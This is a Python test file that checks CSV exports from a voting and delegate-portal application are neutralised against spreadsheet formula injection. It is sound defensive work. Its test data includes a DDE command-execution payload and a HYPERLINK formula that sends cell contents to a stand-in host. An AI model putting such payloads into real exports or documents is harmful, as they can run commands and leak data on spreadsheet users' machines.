"""CSV exports: formulas neutralised (OWASP), every field quoted, a UTF-8 BOM; one helper for all."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from controller.exports import BOM, csv_text, safe_cell
from controller.voting.tables import BallotKind

CONTROLLER = Path(__file__).resolve().parents[2] / "controller"
ATTACKS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1",
           '=HYPERLINK("http://x.example/?"&A1,"click")']


def test_safe_cell_neutralises_every_formula_start():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5  # numbers are numbers, not text


def test_csv_text_quotes_every_field_so_separators_cannot_open_a_cell():
    text = csv_text(["a", "b"], [["x;=1+1", "y,=2+2"], [1, None]])
    assert text.startswith(BOM)
    assert text[1:].split("\r\n")[1] == '"x;=1+1","y,=2+2"'
    assert text[1:].split("\r\n")[2] == '"1",""'


def read_csv(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(BOM.encode("utf-8")), "Excel needs the BOM to read Vietnamese as UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_ballot_export_neutralises_titles_and_candidates(app, client, login_as):
    login_as("observer")
    ballots = app.extensions["congress"].ballots
    names = [*ATTACKS[:5], "Nguyễn Thị Ánh"]
    bid = ballots.create(ATTACKS[0], BallotKind.ELECTION, options=names, seats=2, actor="test")
    ballots.open(bid, actor="test", allow_without_quorum=True)
    ballots.close(bid, actor="test")
    r = client.get(f"/ballots/{bid}/export.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = read_csv(r)
    assert rows[0] == ["ballot", "title", "option", "votes", "elected"]
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c and (c[0] in "=+-@\t\r" or c.lstrip()[:1] in tuple("=+-@"))]
    assert "'" + ATTACKS[0] in cells and "'@SUM(A1:A9)" in cells and "Nguyễn Thị Ánh" in cells


def test_portal_codes_export_neutralises_names_and_delegations(app, client, login_as, sqlite_db):
    from controller.storage.tables import Delegate

    with sqlite_db.session() as s:
        s.add_all([Delegate(id="d1", name=ATTACKS[0], delegation="@SUM(A1:A9)"),
                   Delegate(id="d2", name="Trần Văn Bình", delegation="-Hà Nội")])
    login_as("technician")
    r = client.get("/portal/codes.csv")
    assert r.status_code == 200
    rows = read_csv(r)
    names = {row[0]: row for row in rows[1:]}
    assert names["d1"][1:3] == ["'" + ATTACKS[0], "'@SUM(A1:A9)"]
    assert names["d2"][1:3] == ["Trần Văn Bình", "'-Hà Nội"]


def test_no_module_writes_csv_or_a_workbook_but_the_exports_helper():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|to_csv\(")
    offenders = [str(p.relative_to(CONTROLLER)) for p in CONTROLLER.rglob("*.py")
                 if p.name != "exports.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == [], f"write CSV/XLSX through controller.exports (neutralised): {offenders}"
